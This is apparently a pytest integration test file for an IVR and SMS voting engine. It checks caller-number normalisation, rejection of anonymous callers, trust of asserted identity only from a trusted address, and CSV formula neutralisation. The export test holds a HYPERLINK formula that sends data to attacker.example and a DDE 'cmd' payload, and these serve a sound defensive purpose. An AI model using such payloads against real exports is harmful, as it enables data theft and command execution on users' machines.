"""One person, one caller, over real SIP calls and POST /api/sms/inbound on one engine (`--region UA`,
P-Asserted-Identity trusted from 127.0.0.1 only): 0501112233, 380501112233 and +380501112233 vote once
between them by SMS and voice; withheld and alphanumeric callers are refused at the vote and told why;
an asserted identity counts only from the trusted address; exports neutralise formulas in caller ids;
an undecodable recording's 422 names no server path."""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
import time

import pytest

from ivr.flow.model import UNIDENTIFIED_TEXT
from tests.support.caller import Caller

from .api.conftest import Api, make_key
from .conftest import start_engine
from .test_sms import sms

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def engine(tmp_path_factory):
    proc = start_engine(tmp_path_factory.mktemp("identity"), "--region", "UA", "--trust-identity-from", "127.0.0.1/32")
    yield proc
    proc.stop()


def votes(engine) -> list[tuple[str, str]]:
    with sqlite3.connect(engine.db_url.removeprefix("sqlite:///")) as db:
        return db.execute("SELECT caller, choice FROM votes ORDER BY at").fetchall()


async def vote_by_call(engine, caller_id: str, key: str, host: str = "127.0.0.1",
                       headers: tuple[tuple[str, str], ...] = ()) -> None:
    async with Caller(("127.0.0.1", engine.sip_port), "3838", caller_id=caller_id, host=host,
                      invite_headers=headers) as phone:
        await phone.dial()
        await asyncio.sleep(1.0)
        await phone.press(key)
        await phone.wait_hangup(25)


def ended(engine, caller: str) -> list[dict]:
    deadline = time.monotonic() + 5
    while True:
        found = [r for r in engine.call_records() if r["event"] == "call_ended" and r["from"] == caller]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.2)


def test_three_forms_of_one_number_vote_once_by_sms_and_voice(engine) -> None:
    assert sms(engine, "0501112233", "3838", "2", "id1")[1]["replies"][-1].startswith("Thank you, your vote")
    again = sms(engine, "+380501112233", "3838", "3", "id2")[1]["replies"]
    assert again[-1] == "You have already voted, for boris. Goodbye."
    asyncio.run(vote_by_call(engine, "380501112233", "4"))
    assert ended(engine, "380501112233")[-1]["path"][-1] == "already"
    assert ("+380501112233", "boris") in votes(engine) and len([v for v in votes(engine) if
                                                                v[0] == "+380501112233"]) == 1
    log = Api(engine)("GET", "/api/calls?caller=050%20111%2022%2033", make_key(engine, "demo", "operator")).json()
    assert {(c["channel"], c["caller"], c["caller_raw"]) for c in log["calls"]} == {
        ("sms", "+380501112233", "0501112233"), ("sms", "+380501112233", "+380501112233"),
        ("voice", "+380501112233", "380501112233")}


def test_withheld_and_alphanumeric_callers_are_told_why_and_never_vote(engine) -> None:
    status, body = sms(engine, "PROMO", "3838", "2", "id3")
    assert status == 200 and body["replies"][-1] == UNIDENTIFIED_TEXT["en"]
    asyncio.run(vote_by_call(engine, "anonymous", "2"))
    [call] = ended(engine, "anonymous")
    assert call["digits"] == "2" and call["path"][-1] == "cast"
    assert not [v for v in votes(engine) if v[0] in ("PROMO", "anonymous")]


def test_an_asserted_identity_counts_only_from_the_trusted_network(engine) -> None:
    asserted = (("P-Asserted-Identity", "<sip:+380671110001@127.0.0.1>"),)
    asyncio.run(vote_by_call(engine, "+380671110002", "1", headers=asserted))              # from 127.0.0.1
    asyncio.run(vote_by_call(engine, "+380671110003", "1", host="127.0.0.7", headers=(     # forged elsewhere
        ("P-Asserted-Identity", "<sip:+380671110004@127.0.0.7>"),)))
    asyncio.run(vote_by_call(engine, "+380671110005", "1", headers=asserted + (("Privacy", "id"),)))
    voters = {caller for caller, _ in votes(engine)}
    assert "+380671110001" in voters and "+380671110002" not in voters
    assert "+380671110003" in voters and "+380671110004" not in voters
    assert "+380671110005" not in voters and not ended(engine, "+380671110005")[-1]["path"][-1] == "thanks"


def test_exports_never_carry_live_formulas(engine) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    assert sms(engine, formula, "5050", "hello", "id4")[0] == 200
    assert sms(engine, "-2+3+cmd|' /C calc'!A0", "5050", "hello", "id5")[0] == 200
    api = Api(engine)
    reply = api("GET", "/api/calls.csv?channel=sms", make_key(engine, "demo", "operator"))
    rows = list(csv.DictReader(io.StringIO(reply.body.decode())))
    callers = {row["caller"] for row in rows} | {row["caller_raw"] for row in rows}
    assert "'" + formula in callers and "'-2+3+cmd|' /C calc'!A0" in callers
    assert not [c for c in callers if c and c[0] in "=+-@" and not c[1:].replace(".", "").isdigit()]


def test_an_undecodable_recording_names_no_server_path(engine) -> None:
    api = Api(engine)
    reply = api("PUT", "/api/campaigns/talent-vote/recordings/hello", make_key(engine, "demo", "business"),
                text=b"RIFF\x00\x00\x00\x00WAVEnot audio at all" * 10, content_type="audio/wav")
    assert reply.status == 422
    message = reply.json()["error"]
    assert message == "not a recording that can be played: the audio cannot be decoded (send WAV, MP3 or OGG)"
    assert "/" not in message.replace("WAV, MP3 or OGG", "")
